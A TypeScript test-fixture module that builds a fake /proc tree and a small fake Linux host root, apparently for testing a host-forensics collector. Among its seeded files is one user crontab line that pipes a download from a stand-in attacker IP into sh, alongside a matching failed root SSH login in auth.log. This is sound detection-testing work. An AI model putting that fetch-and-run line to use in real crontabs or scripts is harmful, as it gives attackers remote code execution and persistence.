import { mkdirSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * A /proc-like tree: `count` process entries PID → symlinks to `templates` directories holding stat,
 * status, cmdline and an exe link (the collector follows PID directories like the kernel's).
 */
export function makeProcTree(procRoot: string, count: number, templates = 50, cmdlineBytes = 200): void {
  mkdirSync(join(procRoot, 'net'), { recursive: true });
  writeFileSync(join(procRoot, 'stat'), 'cpu  1 2 3 4\nbtime 1795852800\n');
  writeFileSync(join(procRoot, 'modules'), 'nf_tables 307200 0 - Live 0x0000000000000000\n');
  writeFileSync(join(procRoot, 'net', 'tcp'), '  sl  local_address rem_address   st\n   0: 0100007F:0016 00000000:0000 0A\n');
  const tdir = join(procRoot, '.templates');
  for (let t = 0; t < templates; t++) {
    const d = join(tdir, String(t));
    mkdirSync(d, { recursive: true });
    writeFileSync(join(d, 'stat'), `${t + 1} (worker (${t})) S 1 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 ${1000 + t} 0 0\n`);
    writeFileSync(join(d, 'status'), `Name:\tworker\nUid:\t${t % 2 === 0 ? 0 : 1000}\t0\t0\t0\n`);
    writeFileSync(join(d, 'cmdline'), `/usr/bin/worker\0--id\0${String(t).padEnd(cmdlineBytes, 'x')}\0`);
    symlinkSync('/usr/bin/worker', join(d, 'exe'));
  }
  for (let pid = 1; pid <= count; pid++) symlinkSync(join(tdir, String(pid % templates)), join(procRoot, String(pid)));
}

/** A small host root: /etc (one file changed now, one 30 days ago), cron, a timer, auth.log, passwd. */
export function makeHostRoot(root: string): void {
  const files: Record<string, string> = {
    'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n',
    'etc/hostname': 'web-1\n',
    'etc/ssh/sshd_config': 'PermitRootLogin no\n',
    'etc/old.conf': 'old\n',
    'etc/crontab': '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    'etc/cron.d/backup': '0 3 * * * root /usr/local/bin/backup\n',
    'var/spool/cron/crontabs/alice': '* * * * * curl http://203.0.113.9/x | sh\n',
    'lib/systemd/system/apt-daily.timer': '[Timer]\nOnCalendar=*-*-* 6,18:00\n',
    'lib/systemd/system/apt-daily.service': '[Service]\nExecStart=/usr/lib/apt/apt.systemd.daily update\n',
    'var/log/auth.log': 'Nov 28 10:00:01 web-1 sshd[1]: Failed password for root from 203.0.113.9 port 4242 ssh2\n',
  };
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(root, rel, '..'), { recursive: true });
    writeFileSync(join(root, rel), text);
  }
  // Both times from the process clock: the kernel stamps a write with the real time, which is not
  // the process's "now" when the clock is moved (the suite's year-ahead run under faketime).
  const now = Date.now() / 1000;
  utimesSync(join(root, 'etc/ssh/sshd_config'), now, now);
  const old = now - 30 * 86_400;
  utimesSync(join(root, 'etc/old.conf'), old, old);
}
